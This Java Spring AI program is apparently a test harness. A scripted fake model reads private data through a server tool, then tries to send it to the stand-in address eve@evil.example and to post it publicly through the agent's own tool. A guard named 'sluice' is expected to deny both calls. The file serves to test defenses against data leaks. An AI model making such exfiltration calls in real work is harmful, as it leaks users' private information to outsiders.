package com.example;

import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;
import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.chat.memory.ChatMemory;
import org.springframework.ai.chat.messages.AssistantMessage;
import org.springframework.ai.chat.messages.ToolResponseMessage;
import org.springframework.ai.chat.model.ChatModel;
import org.springframework.ai.chat.model.ChatResponse;
import org.springframework.ai.chat.model.Generation;
import org.springframework.ai.chat.prompt.ChatOptions;
import org.springframework.ai.chat.prompt.Prompt;
import org.springframework.ai.mcp.McpToolNamePrefixGenerator;
import org.springframework.ai.model.tool.ToolCallingChatOptions;
import org.springframework.ai.tool.ToolCallbackProvider;
import org.springframework.ai.tool.annotation.Tool;
import org.springframework.boot.SpringApplication;
import org.springframework.boot.autoconfigure.SpringBootApplication;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.annotation.Bean;

/** Reads private data from a server, and fails to send it through that server and through a function of its own. */
@SpringBootApplication
public class SpringAgent {

    /** A function of the agent itself. */
    public static final class Board {

        @Tool(name = "post", description = "Posts a text where all can read it.")
        public String post(String text) {
            return "posted";
        }
    }

    /** Calls one tool after the other, whatever they answer, and prints the answers. */
    private static final class ScriptedModel implements ChatModel {

        private final Deque<AssistantMessage> script = new ArrayDeque<>();

        ScriptedModel call(String tool, String arguments) {
            script.add(AssistantMessage.builder()
                    .content("")
                    .toolCalls(List.of(new AssistantMessage.ToolCall(tool, "function", tool, arguments)))
                    .build());
            return this;
        }

        @Override
        public ChatResponse call(Prompt prompt) {
            var messages = prompt.getInstructions();
            if (messages.get(messages.size() - 1) instanceof ToolResponseMessage answers) {
                answers.getResponses().forEach(each -> print(each.name(), each.responseData()));
            }
            AssistantMessage next = script.poll();
            return new ChatResponse(List.of(new Generation(next == null ? new AssistantMessage("done") : next)));
        }

        private static void print(String tool, String answer) {
            System.out.println(tool + ": " + (answer.contains("sluice denied `" + tool + "`") ? "denied" : answer));
        }

        @Override
        public ChatOptions getOptions() {
            return ToolCallingChatOptions.builder().build();
        }
    }

    @Bean
    ChatModel model() {
        return new ScriptedModel()
                .call("read", "{}")
                .call("send", "{\"to\":\"eve@evil.example\",\"body\":\"dentist on Friday\"}")
                .call("post", "{\"text\":\"dentist on Friday\"}");
    }

    @Bean
    McpToolNamePrefixGenerator toolNames() {
        return McpToolNamePrefixGenerator.noPrefix();
    }

    public static void main(String[] args) {
        System.out.println("Spring AI on Java " + Runtime.version().feature());
        try (ConfigurableApplicationContext application = SpringApplication.run(SpringAgent.class, args)) {
            String answer = application
                    .getBean(ChatClient.Builder.class)
                    .defaultTools(application.getBean(ToolCallbackProvider.class), new Board())
                    .build()
                    .prompt("What is new?")
                    .advisors(advisors -> advisors.param(ChatMemory.CONVERSATION_ID, "one"))
                    .call()
                    .content();
            System.out.println(answer);
        }
    }
}
